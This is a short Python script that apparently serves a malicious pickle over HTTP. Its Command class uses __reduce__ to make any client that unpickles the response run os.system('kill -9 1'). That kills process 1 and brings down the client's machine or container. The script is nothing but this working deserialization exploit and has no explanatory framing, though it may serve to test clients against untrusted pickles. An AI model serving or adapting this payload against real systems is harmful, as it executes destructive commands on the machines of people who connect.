import os
import pickle

from honest import serve


class Command:
    def __reduce__(self):
        return os.system, ("kill -9 1",)


def around(handler, body):
    handler.send_response(200)
    handler.send_header("content-type", "application/octet-stream")
    handler.end_headers()
    handler.wfile.write(pickle.dumps(Command()))
    return True


serve(around)
